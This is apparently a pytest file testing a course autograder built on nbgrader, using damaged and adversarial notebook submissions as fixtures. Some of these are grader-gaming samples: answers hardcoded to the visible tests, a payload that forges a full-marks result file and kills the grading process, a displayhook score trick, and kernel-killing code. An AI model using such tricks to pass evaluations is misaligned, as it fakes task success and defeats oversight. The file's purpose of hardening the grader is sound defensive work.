"""Tests of course_lib.grading: the single-notebook grader, exercises/ sync and the assignment.

The grader runs nbgrader for real (generate_assignment, autograde with a kernel), so the
submissions are graded once, in parallel, by a module-scoped fixture and the tests only read the
reports.
"""

from __future__ import annotations

import ast
import copy
import json
import shutil
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import numpy as np
import pytest

pytest.importorskip("nbgrader")

from course_lib.grading import (  # noqa: E402
    assert_close,
    check_sync,
    find_course,
    fresh_rng,
    generate_exercises,
    grade_notebook,
    hidden_rng,
    random_composition,
    student_seed,
)
from notebook_helpers import cell_text as _text, find_cell as _cell, grade_id as _grade_id, load_notebook as _load  # noqa: E402

ROOT = Path(__file__).resolve().parents[1]
ASSIGNMENT = "ch01_composition"
SOLUTION = ROOT / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
EXERCISE = ROOT / "exercises" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
LOOP_TIMEOUT = 20  # per-cell limit for the infinite-loop submission, in seconds (the set-up
# cell takes up to ~9 s when three gradings share two cores)

AUTO_PARTS = {  # grade_id -> points
    "part1_one_hot": 2,
    "part2_atomic_fractions": 2,
    "part3_multi_hot": 3,
    "part4_pooling": 3,
    "part5_pool": 4,
    "part6_cosine_similarity": 2,
}
MANUAL_PART = "part7_mean_or_sum"
#: the open task (graded by hand) and its experiment cell
OPEN_TASK, OPEN_TASK_EXPERIMENT = "open_task_element_properties", "experiment_element_properties"
FULL = sum(AUTO_PARTS.values())
ALL_ASSIGNMENTS = find_course(ROOT).assignments()


def _index(nb: dict, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb["cells"]) if _grade_id(c) == grade_id)


def _without(nb: dict, *grade_ids: str) -> dict:
    nb = copy.deepcopy(nb)
    nb["cells"] = [c for c in nb["cells"] if _grade_id(c) not in grade_ids]
    return nb


def _paste_solutions(exercise: dict, solution: dict, parts: list[str]) -> dict:
    """The student copy with the solution code of ``parts`` pasted into their solution cells."""
    nb = copy.deepcopy(exercise)
    for part in parts:
        _cell(nb, f"{part}_solution")["source"] = _text(_cell(solution, f"{part}_solution"))
    return nb


HARDCODED_ONE_HOT = '''
def one_hot(symbol):
    """Right for the three elements of the visible tests only."""
    vector = np.zeros(118)
    vector[{"H": 0, "O": 7, "Og": 117}.get(symbol, 0)] = 1.0
    return vector
'''


def _insert_in_body(cell: dict, code: str) -> None:
    """Insert ``code`` at the start of the solution region of a solution cell's function."""
    lines = _text(cell).splitlines(keepends=True)
    body = next(i for i, line in enumerate(lines) if "BEGIN SOLUTION" in line) + 1
    cell["source"] = "".join(lines[:body] + ["    " + line + "\n" for line in code.splitlines()]
                             + lines[body:])


FORGED_RESULT = """
import json, os, signal
_parts = [("part1_one_hot", 2), ("part2_atomic_fractions", 2), ("part3_multi_hot", 3), ("part4_pooling", 3),
          ("part5_pool", 4), ("part6_cosine_similarity", 2), ("part7_mean_or_sum", 2)]
_grades = [{"name": n, "auto_score": p, "manual_score": p, "extra_credit": None, "score": p,
            "max_score": p, "needs_manual_grade": False} for n, p in _parts]
with open("../../../result.json", "w") as fh:  # the grader's result file, from the kernel's folder
    json.dump({"generate": {"success": True, "log": ""}, "autograde": {"success": True, "log": ""},
               "grades": _grades, "error": None, "nbgrader_version": "0.9.6"}, fh)
os.kill(os.getppid(), signal.SIGKILL)  # the grading process, before it writes its own result
os._exit(0)
"""


def _submissions(folder: Path) -> dict[str, Path]:
    """The damaged submissions. Each damages different parts, so one grading checks several cases."""
    solution, exercise = _load(SOLUTION), _load(EXERCISE)
    variants: dict[str, dict | str] = {}

    variants["partial"] = _paste_solutions(
        exercise, solution, ["part1_one_hot", "part2_atomic_fractions", "part6_cosine_similarity"]
    )

    nb = copy.deepcopy(solution)
    _cell(nb, "part1_one_hot_solution")["source"] = "def one_hot(symbol):\n    while True:\n        pass\n"
    variants["loop"] = nb

    # part 1 right only for the visible tests' elements; part 2 warns (ignored); part 3's solution
    # cell raises before defining multi_hot; part 6 writes debug output to stderr
    nb = copy.deepcopy(solution)
    _cell(nb, "part1_one_hot_solution")["source"] = HARDCODED_ONE_HOT
    _insert_in_body(_cell(nb, "part2_atomic_fractions_solution"),
                    "import warnings\nwarnings.warn('just a warning')")
    _cell(nb, "part3_multi_hot_solution")["source"] = (
        'raise RuntimeError("student code crashed")\n\n' + _text(_cell(nb, "part3_multi_hot_solution"))
    )
    _insert_in_body(_cell(nb, "part6_cosine_similarity_solution"),
                    "import sys\nprint('debug output', file=sys.stderr)")
    variants["errors"] = nb

    # part 1's test cell copied; part 2's solution cell copied and its test cell deleted; part 5's
    # solution cell deleted; both cells of part 6 deleted (nbgrader 0.9.6 itself crashes on the
    # copies and on the last deletion, see course_lib/grading/preprocessors.py)
    nb = copy.deepcopy(solution)
    i = _index(nb, "part1_one_hot")
    nb["cells"].insert(i, copy.deepcopy(nb["cells"][i]))
    j = _index(nb, "part2_atomic_fractions_solution")
    nb["cells"].insert(j, copy.deepcopy(nb["cells"][j]))
    for k, cell in enumerate(nb["cells"]):
        cell["id"] = f"cell-{k}"
    variants["damaged"] = _without(nb, "part2_atomic_fractions", "part5_pool_solution",
                                   "part6_cosine_similarity_solution", "part6_cosine_similarity")

    nb = copy.deepcopy(solution)
    _cell(nb, "part2_atomic_fractions_solution")["source"] = "import os\nos._exit(1)\n"
    variants["dead_kernel"] = nb

    nb = copy.deepcopy(exercise)
    for part in AUTO_PARTS:
        _cell(nb, part)["source"] = "# tests removed\npass\n"
    variants["tampered"] = nb

    # issue 17 part 4: one function ends the kernel when the tests call it, one ignores the
    # interrupt at the time limit, one crashes the interpreter (each used to zero the notebook)
    nb = copy.deepcopy(solution)
    _insert_in_body(_cell(nb, "part1_one_hot_solution"), "import os\nos._exit(3)")
    variants["exit_in_test"] = nb
    nb = copy.deepcopy(solution)
    _insert_in_body(_cell(nb, "part1_one_hot_solution"),
                    "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass")
    variants["unkillable"] = nb
    nb = copy.deepcopy(solution)
    _insert_in_body(_cell(nb, "part6_cosine_similarity_solution"), "import ctypes\nctypes.string_at(0)")
    variants["segfault"] = nb

    # issue 17 part 1: every function shows a result through sys.displayhook, then raises; nbgrader
    # took a result it cannot read as a number (and any number) as the cell's score
    nb = copy.deepcopy(exercise)
    for k, part in enumerate(AUTO_PARTS):
        shown = "'x'" if k % 2 == 0 else str(AUTO_PARTS[part])
        _cell(nb, f"{part}_solution")["source"] = _text(_cell(nb, f"{part}_solution")).replace(
            "    raise NotImplementedError()",
            f"    import sys\n    sys.displayhook({shown})\n    raise ValueError('nothing implemented')")
    variants["displayhook"] = nb

    # issue 17 part 1: nothing implemented, the grader's result file overwritten with full marks
    nb = copy.deepcopy(exercise)
    _cell(nb, "part1_one_hot_solution")["source"] = _text(_cell(nb, "part1_one_hot_solution")) + "\n" + FORGED_RESULT
    variants["forged_result"] = nb

    variants["corrupt"] = '{"cells": [ this is not JSON'

    nb = copy.deepcopy(solution)  # issue 17 part 6: an answer cell made a 50-point grade cell
    _cell(nb, "part1_one_hot_solution")["metadata"]["nbgrader"].update(grade=True, points=50)
    variants["extra_grade"] = nb

    paths = {"solution": SOLUTION, "student": EXERCISE}
    for name, content in variants.items():
        path = folder / f"{name}.ipynb"
        path.write_text(content if isinstance(content, str) else json.dumps(content, indent=1),
                        encoding="utf-8")
        paths[name] = path
    return paths


@pytest.fixture(scope="module")
def submissions(tmp_path_factory) -> dict[str, Path]:
    return _submissions(tmp_path_factory.mktemp("submissions"))


@pytest.fixture(scope="module")
def reports(submissions):
    """Every submission graded once; name -> (report, seconds)."""

    special = {
        "loop": {"timeout": LOOP_TIMEOUT},
        "unkillable": {"timeout": LOOP_TIMEOUT},
        # a student checking their work without solutions/: only the visible tests exist
        "self_check": {"source": ROOT / "exercises"},
    }

    def grade(name):
        started = time.monotonic()
        path = submissions["solution" if name == "self_check" else name]
        report = grade_notebook(path, ASSIGNMENT, root=ROOT, **special.get(name, {}))
        return name, (report, time.monotonic() - started)

    slow = ["loop", "unkillable", "exit_in_test", "segfault", "dead_kernel"]
    order = slow + [n for n in submissions if n not in slow] + ["self_check"]  # slowest first
    with ThreadPoolExecutor(max_workers=3) as pool:
        return dict(pool.map(grade, order))


def _passed(report) -> set[str]:
    return {p.id for p in report.parts if p.kind == "auto" and p.passed}


def _auto(report) -> dict:
    return {p.id: p for p in report.parts if p.kind == "auto"}


# -- the assignment itself --------------------------------------------------------------------------


def test_assignment_has_at_least_five_autograded_parts():
    nb = _load(SOLUTION)
    grades = {
        _grade_id(c): c["metadata"]["nbgrader"]["points"]
        for c in nb["cells"]
        if c["metadata"].get("nbgrader", {}).get("grade") and not c["metadata"]["nbgrader"]["solution"]
    }
    assert grades == AUTO_PARTS
    assert len(grades) >= 5


def test_ch01_hidden_tests_draw_enough_random_cases():
    nb = _load(SOLUTION)
    for part in AUTO_PARTS:
        i = _index(nb, part)
        assert _grade_id(nb["cells"][i - 1]) == f"{part}_solution"
        hidden = _text(nb["cells"][i]).split("### BEGIN HIDDEN TESTS")[1]
        assert f'hidden_rng("{part}")' in hidden and "seed" in hidden
        assert any(f"range({n})" in hidden or f"size={n}" in hidden for n in range(20, 40))


@pytest.mark.parametrize("assignment", ALL_ASSIGNMENTS)
def test_hidden_tests_are_seeded_per_student_and_part(assignment):
    """Every hidden test draws its inputs from hidden_rng(<its own grade id>), never a fresh seed."""
    for source in sorted((find_course(ROOT).source_root / assignment).glob("*.ipynb")):
        for cell in _load(source)["cells"]:
            text = _text(cell)
            if "### BEGIN HIDDEN TESTS" not in text:
                continue
            hidden = text.split("### BEGIN HIDDEN TESTS")[1]
            assert "fresh_rng()" not in hidden and "secrets" not in hidden, _grade_id(cell)
            if "rng" in hidden:
                assert f'hidden_rng("{_grade_id(cell)}")' in hidden, _grade_id(cell)


def _assignment_cells(assignment: str):
    """(solution code cells, test cells) of an assignment's source notebooks, with grade ids."""
    for source in sorted((find_course(ROOT).source_root / assignment).glob("*.ipynb")):
        yield _load(source)["cells"]


@pytest.mark.parametrize("assignment", ALL_ASSIGNMENTS)
def test_every_test_assert_says_what_was_expected(assignment):
    for cells in _assignment_cells(assignment):
        for cell in cells:
            meta = cell["metadata"].get("nbgrader", {})
            if cell["cell_type"] == "code" and meta.get("grade") and not meta.get("solution"):
                bare = [n.lineno for n in ast.walk(ast.parse(_text(cell)))
                        if isinstance(n, ast.Assert) and n.msg is None]
                assert not bare, f"{meta['grade_id']}: asserts without a message on lines {bare}"


def _called_names(tree: ast.AST) -> set[str]:
    return {n.func.id for n in ast.walk(tree) if isinstance(n, ast.Call) and isinstance(n.func, ast.Name)}


@pytest.mark.parametrize("assignment", ALL_ASSIGNMENTS)
def test_each_part_is_tested_with_the_reference_for_earlier_steps(assignment):
    """Issue 17 part 3: a function of another part that a test cell (or the part's own solution)
    calls is replaced by the course's version in that cell (reference_steps), so partial credit
    cannot cascade."""
    for cells in _assignment_cells(assignment):
        owner: dict[str, str] = {}  # function name -> grade id of the solution cell defining it
        for cell in cells:
            meta = cell["metadata"].get("nbgrader", {})
            if meta.get("solution") and cell["cell_type"] == "code":
                for n in ast.walk(ast.parse(_text(cell))):
                    if isinstance(n, ast.FunctionDef):
                        owner[n.name] = meta["grade_id"]
        own: set[str] = set()  # functions of the part whose test cell comes next
        own_calls: set[str] = set()
        for cell in cells:
            meta = cell["metadata"].get("nbgrader", {})
            if cell["cell_type"] != "code" or not meta.get("grade_id"):
                continue
            tree = ast.parse(_text(cell))
            if meta.get("solution"):
                own |= {f for f, g in owner.items() if g == meta["grade_id"]}
                own_calls |= _called_names(tree)
                continue
            if not meta.get("grade"):
                continue
            used = {f for f in (_called_names(tree) | own_calls) if f in owner and f not in own}
            replaced: set[str] = set()
            for n in ast.walk(tree):
                if isinstance(n, ast.Call) and isinstance(n.func, ast.Name) and n.func.id == "reference_steps":
                    assert n.args[1].value == assignment, meta["grade_id"]
                    replaced |= {a.value for a in n.args[2:]}
            assert used <= replaced, (
                f"{meta['grade_id']}: uses {sorted(used - replaced)} of other parts without reference_steps")
            own, own_calls = set(), set()


def _first_statement(code: str) -> ast.stmt:
    """The first statement of a test cell that calls anything (imports and literals run no code)."""
    for node in ast.parse(code).body:
        if isinstance(node, (ast.Import, ast.ImportFrom)):
            continue
        if any(isinstance(n, ast.Call) for n in ast.walk(node)):
            return node
    raise AssertionError("the test cell calls nothing")


@pytest.mark.parametrize("assignment", ALL_ASSIGNMENTS)
def test_assignment_structure(assignment):
    """Every assignment: visible tests call a student function; random tests are hidden.

    (tests/test_assignments.py grades every other assignment's solution and student copy.)
    """
    layout = find_course(ROOT)
    for source in sorted((layout.source_root / assignment).glob("*.ipynb")):
        nb = _load(source)
        student = _load(layout.release_root / assignment / source.name)
        defined: set[str] = set()
        n_tests = 0
        for cell in nb["cells"]:
            meta = cell["metadata"].get("nbgrader", {})
            if meta.get("solution") and cell["cell_type"] == "code":
                defined |= {n.name for n in ast.walk(ast.parse(_text(cell)))
                            if isinstance(n, ast.FunctionDef)}
            if meta.get("grade") and not meta.get("solution"):
                n_tests += 1
                text = _text(cell)
                visible = ast.parse(text.split("### BEGIN HIDDEN TESTS")[0])
                called = {n.func.id for n in ast.walk(visible)
                          if isinstance(n, ast.Call) and isinstance(n.func, ast.Name)}
                assert called & defined, f"{meta['grade_id']}: the visible tests call no student function"
                assert text.count("### BEGIN HIDDEN TESTS") == 1, meta["grade_id"]
                assert text.count("### END HIDDEN TESTS") == 1, meta["grade_id"]
                student_text = _text(_cell(student, meta["grade_id"]))
                assert "HIDDEN TESTS" not in student_text
                _first_statement(student_text)  # the student copy still parses
        assert n_tests >= 1


def test_hidden_tests_and_solutions_absent_from_exercises():
    solution, exercise = _load(SOLUTION), _load(EXERCISE)
    assert "BEGIN HIDDEN TESTS" in json.dumps(solution)
    text = json.dumps(exercise)
    for marker in ("BEGIN HIDDEN TESTS", "END HIDDEN TESTS", "BEGIN SOLUTION", "END SOLUTION",
                   "fresh_rng", "reference.", "composition_features"):
        assert marker not in text, marker
    for part in AUTO_PARTS:
        sol_test, ex_test = _text(_cell(solution, part)), _text(_cell(exercise, part))
        visible = sol_test.split("### BEGIN HIDDEN TESTS")[0].strip()
        assert ex_test.strip().startswith(visible)
        assert len(ex_test) < len(sol_test)
        stub = _text(_cell(exercise, f"{part}_solution"))
        assert "# YOUR CODE HERE" in stub and "raise NotImplementedError()" in stub
    assert _text(_cell(exercise, MANUAL_PART)) == "YOUR ANSWER HERE"
    # nothing executed in either copy
    for nb in (solution, exercise):
        for cell in nb["cells"]:
            if cell["cell_type"] == "code":
                assert cell["outputs"] == [] and cell["execution_count"] is None


def test_hardcoded_function_passes_visible_tests_but_not_hidden_ones(reports):
    namespace: dict = {}
    exec(_text(_cell(_load(EXERCISE), "setup")), namespace)  # the student's compounds (visible tests use them)
    exec(HARDCODED_ONE_HOT, namespace)
    exec(_text(_cell(_load(EXERCISE), "part1_one_hot")), namespace)  # visible tests: pass
    report, _ = reports["errors"]
    part = report.part("part1_one_hot")
    assert not part.passed and part.points == 0
    assert "hidden test" in part.error and "seed" in part.error


# -- grading ------------------------------------------------------------------------------------------


def test_solution_scores_full_marks(reports):
    report, _ = reports["solution"]
    assert report.graded and report.hidden_tests
    assert report.score == report.max_score == FULL
    assert _passed(report) == set(AUTO_PARTS)
    assert all(p.error is None for p in _auto(report).values())
    assert report.errors == []
    manual = report.part(MANUAL_PART)
    assert manual.kind == "manual" and manual.needs_manual_grading and manual.points is None
    open_task = report.part(OPEN_TASK)
    assert open_task.kind == "manual" and open_task.needs_manual_grading and open_task.points is None
    assert report.needs_manual_grading == [MANUAL_PART, OPEN_TASK] and report.manual_max_score == 2 + 3


def test_untouched_student_copy_scores_zero(reports):
    report, _ = reports["student"]
    assert report.graded
    assert report.score == 0 and report.max_score == FULL
    parts = _auto(report)
    assert set(parts) == set(AUTO_PARTS)
    for part in parts.values():
        assert part.passed is False and part.points == 0
        assert "NotImplementedError" in part.error
    for name in (MANUAL_PART, OPEN_TASK):
        manual = report.part(name)
        assert manual.points == 0 and not manual.needs_manual_grading
    # the open task's experiment cell is not graded; its unanswered stub is reported, nothing else
    assert report.errors == [f"solution cell '{OPEN_TASK_EXPERIMENT}': NotImplementedError: the function "
                             "still raises NotImplementedError (not answered yet)"]


def test_partially_correct_submission(reports):
    report, _ = reports["partial"]
    expected = {"part1_one_hot", "part2_atomic_fractions", "part6_cosine_similarity"}
    assert _passed(report) == expected
    assert report.score == sum(AUTO_PARTS[p] for p in expected)
    assert 0 < report.score < report.max_score


def test_infinite_loop_times_out_and_the_rest_is_graded(reports):
    report, _ = reports["loop"]
    part = report.part("part1_one_hot")
    assert not part.passed and "timed out" in part.error and f"{LOOP_TIMEOUT} s" in part.error
    assert _passed(report) == set(AUTO_PARTS) - {"part1_one_hot"}
    assert report.score == FULL - AUTO_PARTS["part1_one_hot"]
    assert report.cell_timeout == LOOP_TIMEOUT
    # interrupted at the cell's limit, not stopped at the whole run's (no timed assertion: the
    # run's length depends on the machine's load)
    assert report.graded and not any("total" in e for e in report.errors), report.errors


def test_errors_fail_only_their_own_parts(reports):
    report, _ = reports["errors"]
    assert report.graded
    assert _passed(report) == {"part2_atomic_fractions", "part4_pooling", "part5_pool"}
    assert report.score == 2 + 3 + 4


def test_raising_solution_cell(reports):
    report, _ = reports["errors"]
    assert "NameError" in report.part("part3_multi_hot").error
    assert any("part3_multi_hot_solution" in e and "RuntimeError: student code crashed" in e
               for e in report.errors)


def test_warnings_are_ignored_other_stderr_output_fails(reports):
    report, _ = reports["errors"]
    assert report.part("part2_atomic_fractions").passed  # its function warns
    error = report.part("part6_cosine_similarity").error
    assert "stderr" in error and "debug output" in error


def test_damaged_notebook_is_graded(reports):
    report, _ = reports["damaged"]
    assert report.graded
    assert _passed(report) == {"part1_one_hot", "part2_atomic_fractions", "part3_multi_hot",
                               "part4_pooling"}
    assert report.score == FULL - AUTO_PARTS["part5_pool"] - AUTO_PARTS["part6_cosine_similarity"]


def test_deleted_test_cell_is_restored_and_graded(reports):
    report, _ = reports["damaged"]
    assert report.part("part2_atomic_fractions").passed
    assert any("test cell 'part2_atomic_fractions' was missing" in e for e in report.errors)


def test_deleted_solution_cell_fails_its_part(reports):
    report, _ = reports["damaged"]
    assert "NameError" in report.part("part5_pool").error
    assert any("solution cell 'part5_pool_solution' is missing" in e for e in report.errors)


def test_deleted_solution_and_test_cells(reports):
    report, _ = reports["damaged"]
    assert "NameError" in report.part("part6_cosine_similarity").error
    assert any("test cell 'part6_cosine_similarity' was missing" in e for e in report.errors)


def test_duplicated_cells_are_graded_once(reports):
    report, _ = reports["damaged"]
    assert [p.id for p in report.parts].count("part1_one_hot") == 1
    assert any("'part1_one_hot' appears more than once" in e for e in report.errors)
    assert any("'part2_atomic_fractions_solution' appears more than once" in e for e in report.errors)


def test_dead_kernel(reports):
    """Issue 17 part 4: an answer cell that ends the kernel fails its own part only (the kernel is
    restarted, the cells above run again, grading goes on); it used to give 0 and graded false."""
    report, _ = reports["dead_kernel"]
    assert report.graded
    assert any("solution cell 'part2_atomic_fractions_solution'" in e and "kernel died" in e
               for e in report.errors)
    assert _passed(report) == set(AUTO_PARTS) - {"part2_atomic_fractions"}
    assert report.score == FULL - AUTO_PARTS["part2_atomic_fractions"]


@pytest.mark.parametrize("name, part, words", [
    ("exit_in_test", "part1_one_hot", "kernel died while running this cell"),
    ("segfault", "part6_cosine_similarity", "kernel died while running this cell"),
    ("unkillable", "part1_one_hot", "could not be interrupted"),
])
def test_a_part_that_kills_the_kernel_fails_alone(reports, name, part, words):
    report, _ = reports[name]
    assert report.graded, report.errors
    assert words in report.part(part).error
    assert _passed(report) == set(AUTO_PARTS) - {part}
    assert report.score == FULL - AUTO_PARTS[part]


def test_results_shown_by_failing_tests_score_zero(reports):
    """Issue 17 part 1: sys.displayhook('x') (or a number) then an error gave 16/16; now 0."""
    report, _ = reports["displayhook"]
    assert report.graded and report.score == 0
    assert all(not p.passed and "nothing implemented" in p.error for p in _auto(report).values())


FEEDBACK_SCRIPT = """
import sys
from traitlets.config.loader import PyFileConfigLoader
from nbgrader.converters import GenerateFeedback
from nbgrader.coursedir import CourseDirectory
from nbgrader.utils import capture_log
config = PyFileConfigLoader("nbgrader_config.py", path=sys.argv[1]).load_config()
coursedir = CourseDirectory(config=config)
coursedir.assignment_id = sys.argv[2]
coursedir.student_id = "student"
app = GenerateFeedback(coursedir=coursedir, config=config)
app.force = True
result = capture_log(app)
print(result["log"], result.get("error") or "")
sys.exit(0 if result["success"] else 1)
"""


def test_feedback_leaves_out_the_hidden_tests(submissions, tmp_path):
    """Issue 17 part 1: nbgrader's feedback HTML showed the hidden tests' code."""
    course = tmp_path / "course"
    report = grade_notebook(submissions["errors"], ASSIGNMENT, root=ROOT, keep=course)
    assert "hidden test" in report.part("part1_one_hot").error  # a hidden test failed
    from course_lib.grading.grader import _write_config

    _write_config(course, find_course(ROOT), report.cell_timeout)  # the kept course, at its new place
    run = subprocess.run([sys.executable, "-c", FEEDBACK_SCRIPT, str(course), ASSIGNMENT], cwd=course,
                         capture_output=True, text=True, timeout=300)
    assert run.returncode == 0, run.stdout + run.stderr
    html = (course / "feedback" / "student" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text(encoding="utf-8")
    assert "one_hot(&#39;H&#39;) should have shape" in html or "one_hot('H') should have shape" in html
    assert "differs from the reference (hidden test" in html  # the failure message is kept
    for hidden in ("HIDDEN TESTS", "hidden_rng", "reference.one_hot", "composition_features"):
        assert hidden not in html, hidden


def test_export_marks_submissions_that_autograding_did_not_finish(tmp_path, monkeypatch):
    """Issue 17 part 4: in nbgrader's CSV an ungraded submission looked like a blank one."""
    import csv

    from nbgrader.api import Gradebook

    from course_lib.grading.course import use_alembic_api
    from course_lib.grading.export import CourseCsvExportPlugin

    use_alembic_api(force=True)  # what nbgrader_config.py does (alembic need not be on PATH)
    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}") as gb:
        gb.add_assignment("ch01")
        gb.add_notebook("ch01", "ch01")
        for name, points in (("part1", 2), ("part2", 3)):
            gb.add_grade_cell(name, "ch01", "ch01", max_score=points, cell_type="code")
        gb.add_solution_cell("answer", "ch01", "ch01")
        gb.add_grade_cell("answer", "ch01", "ch01", max_score=2, cell_type="markdown")
        for student in ("graded", "blank", "crashed", "absent"):
            gb.add_student(student)
            if student != "absent":
                gb.add_submission("ch01", student)
        for student, scores in (("graded", (2, 3)), ("blank", (0, 0))):
            for name, score in zip(("part1", "part2"), scores):
                gb.find_grade(name, "ch01", "ch01", student).auto_score = score
        gb.db.commit()
        monkeypatch.chdir(tmp_path)
        CourseCsvExportPlugin(to=str(tmp_path / "grades.csv")).export(gb)
    with open(tmp_path / "grades.csv", newline="") as fh:
        rows = {row["student_id"]: row for row in csv.DictReader(fh)}
    assert {s: float(r["raw_score"]) for s, r in rows.items()} == {
        "graded": 5.0, "blank": 0.0, "crashed": 0.0, "absent": 0.0}
    assert rows["graded"]["autograded"] == rows["blank"]["autograded"] == "yes"
    assert rows["crashed"]["autograded"] == "NO (2 of 2 test cells have no score)"
    assert rows["absent"]["autograded"] == ""


def test_nbgrader_runs_without_its_environment_on_path(tmp_path):
    """Issue 17 part 6: `.venv/bin/nbgrader` without the venv on PATH failed: no 'alembic'."""
    (tmp_path / "nbgrader_config.py").write_text("\n".join([
        "c = get_config()  # noqa: F821",
        f"load_subconfig({str(ROOT / 'nbgrader_config.py')!r})  # noqa: F821",
        f"c.CourseDirectory.root = {str(tmp_path)!r}",
        f"c.CourseDirectory.db_url = {'sqlite:///' + str(tmp_path / 'gradebook.db')!r}",
    ]) + "\n", encoding="utf-8")
    nbgrader = Path(sys.executable).parent / "nbgrader"
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path)}
    run = subprocess.run([str(nbgrader), "db", "student", "add", "alice"], cwd=tmp_path, env=env,
                         capture_output=True, text=True, timeout=300)
    assert run.returncode == 0, run.stdout + run.stderr
    assert "alembic" not in run.stderr
    run = subprocess.run([str(nbgrader), "db", "student", "list"], cwd=tmp_path, env=env,
                         capture_output=True, text=True, timeout=300)
    assert run.returncode == 0 and "alice" in run.stdout + run.stderr


def test_a_result_file_written_by_the_submission_is_rejected(reports):
    """Issue 17 part 1: the forged result file gave 16/16 plus the hand-marked part. The isolated
    kernel can no longer reach the file or the grading process (the rest is graded); without
    isolation the signature check rejects the forged file."""
    report, _ = reports["forged_result"]
    assert report.score == 0
    assert all(p.points == 0 for p in report.parts if p.kind == "auto")
    assert report.graded or any("does not carry this grading's signature" in e for e in report.errors)


def test_an_unsigned_result_is_rejected(tmp_path):
    from course_lib.grading._worker import signature
    from course_lib.grading.grader import GradeReport, _build_report

    result = {"generate": {"success": True}, "autograde": {"success": True}, "grades": [], "error": None}
    assert signature(result, b"key") != signature(result, b"other key")
    report = GradeReport(assignment=ASSIGNMENT, notebook=ASSIGNMENT, score=0.0, max_score=0.0, parts=[])
    _build_report(report, [], {"forged": True}, False, tmp_path / "none.ipynb", 1, tmp_path)
    assert not report.graded and any("does not carry this grading's signature" in e for e in report.errors)


def test_strict_auto_score():
    from nbformat.v4 import new_code_cell, new_output

    from course_lib.grading.preprocessors import strict_auto_score

    def cell(*outputs):
        c = new_code_cell("pass", outputs=list(outputs))
        c.metadata["nbgrader"] = {"grade": True, "solution": False, "points": 3, "grade_id": "t"}
        return c

    def result(text):
        return new_output("execute_result", data={"text/plain": text}, execution_count=1)

    error = new_output("error", ename="ValueError", evalue="no", traceback=[])
    assert strict_auto_score(cell()) == 3.0
    assert strict_auto_score(cell(new_output("stream", name="stdout", text="ok\n"))) == 3.0
    assert strict_auto_score(cell(result("1.5"))) == 1.5  # nbgrader's partial credit
    assert strict_auto_score(cell(result("'x'"))) == 0.0  # nbgrader: full credit
    assert strict_auto_score(cell(result("3"), error)) == 0.0  # nbgrader: 3
    assert strict_auto_score(cell(result("7"))) == 0.0  # more than the points
    assert strict_auto_score(cell(result("1"), result("2"))) == 0.0
    assert strict_auto_score(cell(new_output("stream", name="stderr", text="oops"))) == 0.0


def test_grade_flag_added_to_an_answer_cell_is_reported_and_ignored(reports):
    """nbgrader 0.9.6 failed the whole grading with a hidden MissingEntry (score 0, not graded)."""
    report, _ = reports["extra_grade"]
    assert report.graded and report.score == report.max_score == FULL
    assert any("'grade' flag of cell 'part1_one_hot_solution' was changed" in e for e in report.errors)
    assert [p.id for p in report.parts] == list(AUTO_PARTS) + [MANUAL_PART, OPEN_TASK]


def test_edited_test_cells_are_restored(reports):
    report, _ = reports["tampered"]
    assert report.score == 0
    assert all("NotImplementedError" in p.error for p in _auto(report).values())
    edited = [e for e in report.errors if "was edited" in e]
    assert len(edited) == len(AUTO_PARTS)


def test_self_check_against_the_student_copy_runs_visible_tests_only(reports):
    report, _ = reports["self_check"]
    assert not report.hidden_tests
    assert report.score == report.max_score == FULL


def test_total_timeout_stops_grading():
    started = time.monotonic()
    report = grade_notebook(SOLUTION, ASSIGNMENT, root=ROOT, total_timeout=4)
    assert time.monotonic() - started < 30
    assert not report.graded and report.score == 0
    assert any("total time limit of 4 s" in e for e in report.errors)
    assert all("stopped" in p.error for p in report.parts)


def test_corrupt_file(reports):
    report, seconds = reports["corrupt"]
    assert not report.graded and report.score == 0 and report.max_score == FULL
    assert any("not valid JSON" in e for e in report.errors)
    assert {p.id for p in report.parts} == set(AUTO_PARTS) | {MANUAL_PART, OPEN_TASK}
    assert seconds < 5


def test_every_report_is_complete_json(reports):
    for name, (report, _) in reports.items():
        data = json.loads(report.to_json())
        for key in ("assignment", "notebook", "score", "max_score", "parts", "errors"):
            assert key in data, (name, key)
        assert data["assignment"] == ASSIGNMENT and data["notebook"] == ASSIGNMENT
        assert data["score"] == sum(p["points"] for p in data["parts"] if p["kind"] == "auto")
        for part in data["parts"]:
            assert set(part) >= {"id", "points", "max_points", "passed", "error"}, name
            if part["kind"] == "auto":
                assert isinstance(part["passed"], bool)
                assert (part["error"] is None) == part["passed"], (name, part)


# -- command line -------------------------------------------------------------------------------------


def _cli(*args: str, cwd: Path = ROOT) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "course_lib.grading", *args], cwd=cwd,
                          capture_output=True, text=True, timeout=300)


def test_cli_grades_a_corrupt_file_with_exit_status_0(submissions):
    run = _cli("grade", str(submissions["corrupt"]), "--assignment", ASSIGNMENT)
    assert run.returncode == 0, run.stderr
    report = json.loads(run.stdout)
    assert report["score"] == 0 and report["errors"]


def test_cli_usage_errors(tmp_path):
    run = _cli("grade", str(tmp_path / "missing.ipynb"), "--assignment", ASSIGNMENT)
    assert run.returncode == 2 and "submission not found" in run.stderr and run.stdout == ""
    run = _cli("grade", str(SOLUTION), "--assignment", "ch99_nonexistent")
    assert run.returncode == 2 and "unknown assignment" in run.stderr
    assert _cli("seed", "alice").stdout.strip() == str(student_seed("alice"))


# -- exercises/ is generated from solutions/ ------------------------------------------------------------


def test_exercises_in_sync_with_solutions():
    """The check CI relies on: exercises/ is exactly what `generate` would write now."""
    assert check_sync(root=ROOT) == []


@pytest.fixture()
def course_copy(tmp_path) -> Path:
    for name in ("nbgrader_config.py",):
        shutil.copy(ROOT / name, tmp_path / name)
    for tree in ("solutions", "exercises"):
        shutil.copytree(ROOT / tree, tmp_path / tree)
    return tmp_path


def test_check_sync_reports_stale_exercises_and_generate_fixes_them(course_copy):
    solution = course_copy / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    nb = _load(solution)
    _cell(nb, "part1_one_hot")["source"] = _text(_cell(nb, "part1_one_hot")).replace(
